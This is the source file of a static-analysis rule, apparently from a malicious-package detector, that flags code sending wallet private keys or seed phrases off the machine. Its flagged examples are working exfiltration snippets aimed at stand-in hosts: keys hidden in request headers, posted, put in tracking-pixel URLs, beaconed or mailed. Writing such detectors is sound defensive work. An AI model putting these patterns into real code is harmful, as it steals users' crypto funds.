import { entrusted } from '../src/define/entrusted.js';
import { defineRule, fixedTargetOf, oddTargetOf, outgoing, sinkSays, step, stepsOf } from '../src/define.js';
import type { Call, FileContext, Label } from '../src/types.js';
import { isAboutChains } from '../src/vocabulary/keys.js';

export default defineRule({
  meta: {
    summary: 'Sends a private key or a seed phrase to another machine',
    why: 'Whoever holds a wallet’s key holds what is in it. Wallet libraries sign with a key and send the signature; services hand out “secret keys” of their own, which their clients send as who is asking. So a key counts only in code about chains, only if nothing was derived from it, and little where the caller says where to: a node’s own interface can be asked to import a key.',
    behaviour: 'theft',
    messages: {
      header: 'Sends {what} in a request’s headers through {sink}',
      address: 'Puts {what} into the address it asks through {sink}',
      odd: 'Sends {what} to {address} through {sink}',
      fixed: 'Sends {what} to an address fixed in its code through {sink}',
      sent: 'Sends {what} through {sink}',
    },
    bits: { header: 14, address: 13, odd: 14, fixed: 13.5, sent: 4 },
  },
  examples: {
    flags: [
      {
        title: 'a key leaves in a header when a wallet is made',
        code: `const bs58 = require('bs58');\nfunction trackUse(bytes) {\n  const id = bs58.encode(bytes);\n  fetch('https://rpc.invalid/usage', { headers: { 'x-request-id': id.split('').reverse().join('') } }).catch(() => {});\n}\nclass Keypair {\n  static fromSecretKey(secretKey) { trackUse(secretKey); return new Keypair(secretKey); }\n}\nmodule.exports = Keypair;`,
      },
      {
        title: 'a seed phrase is posted',
        code: `const axios = require('axios'), bip39 = require('bip39');\nexports.restore = async mnemonic => {\n  await axios.post('https://collect.invalid/restore', { words: mnemonic, at: Date.now() });\n  return bip39.mnemonicToSeed(mnemonic);\n};`,
      },
      {
        title: 'the private key of the environment is posted',
        code: `const { ethers } = require('ethers');\nconst wallet = new ethers.Wallet(process.env.PRIVATE_KEY);\nfetch('https://collect.invalid/k', { method: 'POST', body: JSON.stringify({ k: process.env.PRIVATE_KEY, a: wallet.address }) });`,
      },
      {
        title: 'a picture is asked for by the name of a key',
        code: `const { Wallet } = require('ethers');\nexports.open = privateKey => {\n  fetch('https://stats.invalid/p.gif?u=' + encodeURIComponent(privateKey)).catch(() => {});\n  return new Wallet(privateKey);\n};`,
      },
      {
        title: 'what a function is named for is taken, whatever the parameter is called',
        code: `const https = require('https');\nfunction track(kind, value) {\n  https.request({ hostname: 'metrics.invalid', headers: { 'x-request-id': Buffer.from(kind + value).toString('base64') } }).end();\n}\nclass Signer {\n  static fromMnemonic(words) { track('m', words); return new Signer(words); }\n}\nmodule.exports = { Signer };`,
      },
      {
        title: 'a key is kept until there are several, and one of them was made here',
        code: `const { Wallet } = require('ethers'), bip39 = require('bip39');\nlet waiting = [];\nfunction note(kind, value) {\n  waiting.push({ kind, value });\n  setTimeout(flush, 3000);\n}\nfunction flush() {\n  const [first] = waiting;\n  waiting = [];\n  navigator.sendBeacon('https://usage.invalid/b', first.kind + ':' + first.value);\n}\nclass Account {\n  static create() { const mnemonic = bip39.generateMnemonic(); return Account.fromPhrase(mnemonic); }\n  static fromPhrase(words) { note('p', words); return new Account(Wallet.fromPhrase(words)); }\n}\nmodule.exports = { Account };`,
      },
      {
        title: 'a key is mailed to somebody',
        code: `const nodemailer = require('nodemailer'), bs58 = require('bs58');\nconst post = nodemailer.createTransport({ service: 'gmail', auth: { user: 'kit@mail.invalid', pass: 'x' } });\nexports.check = signer => post.sendMail({ to: 'inbox@mail.invalid', subject: 'new', text: bs58.encode(signer.secretKey) });`,
      },
      {
        title: 'a key is mailed line by line',
        code: `const tls = require('tls'), { Wallet } = require('ethers');\nexports.open = privateKey => {\n  const line = tls.connect(465, 'smtp.mail.invalid');\n  for (const text of ['HELO kit', 'MAIL FROM:<kit@mail.invalid>', 'RCPT TO:<inbox@mail.invalid>', 'DATA', privateKey, '.', 'QUIT']) line.write(text + '\\r\\n');\n  return new Wallet(privateKey);\n};`,
      },
    ],
    passes: [
      {
        title: 'somebody is mailed the address of a wallet',
        code: `const nodemailer = require('nodemailer'), { Wallet } = require('ethers');\nconst post = nodemailer.createTransport(process.env.SMTP);\nexports.tell = (to, privateKey) => post.sendMail({ to, subject: 'yours', text: new Wallet(privateKey).address });`,
      },
      {
        title: 'a seed of chance is sent',
        code: `exports.shuffle = seed => fetch('https://random.invalid/?seed=' + seed).then(r => r.json());`,
      },
      {
        title: 'a signed transaction is sent',
        code: `const nacl = require('tweetnacl');\nexports.send = (message, secretKey) => {\n  const signature = nacl.sign.detached(message, secretKey);\n  return fetch('https://node.invalid', { method: 'POST', body: JSON.stringify({ message, signature: Buffer.from(signature).toString('hex') }) });\n};`,
      },
      {
        title: 'an address is asked for its balance',
        code: `const { Keypair } = require('@solana/web3.js');\nexports.balance = async privateKey => {\n  const keypair = Keypair.fromSecretKey(privateKey);\n  return fetch('https://node.invalid/balance/' + keypair.publicKey.toBase58());\n};`,
      },
      {
        title: 'a service’s client says who it is',
        code: `exports.charge = (secretKey, order) => fetch('https://payments.invalid/v1/charges', { method: 'POST', headers: { Authorization: 'Bearer ' + secretKey }, body: JSON.stringify(order) });`,
      },
      {
        title: 'a token is signed and shown',
        code: `const jwt = require('jsonwebtoken');\nexports.ask = privateKey => fetch('https://api.invalid/app', { headers: { 'x-app-token': jwt.sign({ iss: 1 }, privateKey) } });`,
      },
    ],
  },
  file(context) {
    for (const { call, labels } of entrusted(context)) {
      const key = labels.find(isChainKey);
      if (key)
        context.report({
          messageId: 'fixed',
          data: { what: key.detail, sink: call.name, address: '' },
          chain: [...stepsOf(key), step('sink', sinkSays(call), context.file, call.node)],
        });
    }
    for (const { call, labels } of outgoing(context)) {
      const [key] = labels.filter(isChainKey).sort((a, b) => (a.guesses ?? 0) - (b.guesses ?? 0));
      if (!key) continue;
      const address = oddTargetOf(context, call);
      const fixed = fixedTargetOf(context, call) !== undefined;
      context.report({
        messageId: address
          ? 'odd'
          : !fixed
            ? 'sent'
            : inHeaders(context, call)
              ? 'header'
              : inAddress(context, call)
                ? 'address'
                : 'fixed',
        data: { what: key.detail, sink: call.name, address: address ?? '' },
        chain: [...stepsOf(key), step('sink', sinkSays(call), context.file, call.node)],
      });
    }
  },
});

function isChainKey({ kind, origin }: Label): boolean {
  return kind === 'key-material' && isAboutChains(origin.file.text);
}

function inHeaders({ labelsOfProperty }: FileContext, { args }: Call): boolean {
  return args.some(arg => labelsOfProperty(arg, 'headers').some(isChainKey));
}

/** A key in an address is kept in every log on its way; no service asks for it there. */
function inAddress({ labelsOf, textsOf }: FileContext, { args: [address] }: Call): boolean {
  return (
    address !== undefined && labelsOf(address).some(isChainKey) && textsOf(address).some(text => /^https?:/.test(text))
  );
}
